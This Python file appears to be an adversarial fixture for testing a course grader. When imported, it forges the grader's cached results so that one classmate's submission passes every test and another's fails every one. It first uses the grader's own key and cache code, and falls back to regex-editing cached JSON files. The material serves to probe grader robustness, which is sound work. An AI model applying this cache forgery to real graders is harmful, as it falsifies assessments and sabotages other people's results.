"""Attack: write classmates' cached results ahead of time, so the grader takes them as already graded.

The output folder is in the grader's command line. With the grader's own code (importable here)
the forger computes each victim's cache key and writes a cached result: `partial_2` passed every
test, `correct` failed every one. Where that code has changed, it falls back to editing whatever
cached result it finds for a victim in the output folder.
"""

import ast
import json
import re
from pathlib import Path

from kit import background, grader, may_write, note, once, what_happened, write

VICTIMS = {"partial_2": "passed", "correct": "failed"}
FAILED = "fetch_user was called 0 times; expected 5 calls"


def course_stems(course: Path, args: list[str]) -> list[str]:
    numbers = []
    if "--exercises" in args:
        for arg in args[args.index("--exercises") + 1 :]:
            if arg.startswith("-"):
                break
            numbers.append(arg.zfill(2))
    tests = sorted((course / "tests").glob("test_[0-9][0-9]_*.py"))
    return [t.stem.removeprefix("test_") for t in tests if not numbers or t.stem[5:7] in numbers]


def expected_tests(course: Path, stems: list[str]) -> list[dict]:
    """Every test of the course, read from the test files (their task from @pytest.mark.task(N))."""
    found = []
    for stem in stems:
        tree = ast.parse((course / "tests" / f"test_{stem}.py").read_text())
        for node in tree.body:
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and node.name.startswith("test_"):
                task = next(
                    (d.args[0].value for d in node.decorator_list if isinstance(d, ast.Call) and d.args),
                    None,
                )
                found.append(
                    {
                        "id": f"tests/test_{stem}.py::{node.name}",
                        "stem": stem,
                        "test": node.name,
                        "task": task,
                    }
                )
    return found


def forge_with_the_graders_code(out: Path, victim: Path, outcome: str, args: list[str]) -> None:
    from kata.batch import command
    from kata.batch.submissions import load_submission
    from kata.catalog import REPO_ROOT, Exercise
    from kata.report import TestResult

    stems = course_stems(REPO_ROOT, args)
    submission = load_submission(victim, stems)
    key = command.fingerprint(submission, command.course_digest([Exercise(s, REPO_ROOT) for s in stems]))
    message = "" if outcome == "passed" else FAILED
    results = [
        TestResult(**t, outcome=outcome, seconds=0.2, message=message)
        for t in expected_tests(REPO_ROOT, stems)
    ]
    seed = int(args[args.index("--seed") + 1]) if "--seed" in args else 0
    folder = out / submission.student
    if may_write(folder):
        command.write_cache(folder, command.Graded(key, results, [], 3.0, seed))
        note(f"forged {submission.student}'s cached result with the grader's own code")


def forge_files(out: Path, name: str, outcome: str) -> None:
    """Edit every cached result in `out` that names the victim: each test gets `outcome`."""
    for path in out.rglob("*"):
        relative = str(path.relative_to(out))
        if not path.is_file() or not ("cache" in relative or path.name == "graded.json"):
            continue
        try:
            text = path.read_text()
            if name not in relative and name not in text:
                continue
            text = re.sub(r'"outcome": "\w+"', f'"outcome": "{outcome}"', text)
            write(path, json.dumps(json.loads(text)))
        except (OSError, ValueError):
            continue


def forge() -> None:
    mine = grader()
    if mine is None or mine.out is None:
        note("no grader in sight: no --out to forge in")
        return
    for name, outcome in VICTIMS.items():
        victim = mine.classmate(name)
        if victim is None:
            continue
        try:
            forge_with_the_graders_code(mine.out, victim, outcome, mine.args)
        except Exception as error:
            note(f"the grader's cache code did not serve ({type(error).__name__}): editing its files")
            forge_files(mine.out, name, outcome)


async def greet(fetch_name, user_id):
    return f"Hello, {await fetch_name(user_id)}!"


async def shipping_label(get_order, get_customer, get_address, order_id):
    """Not written: its failure message says what this attack did, for the test to see."""
    raise AssertionError(what_happened())


def make_requests(fetch_user, user_ids):
    raise NotImplementedError


if __name__ == "__main__":
    background(globals())
elif once("forges_cache"):
    forge()
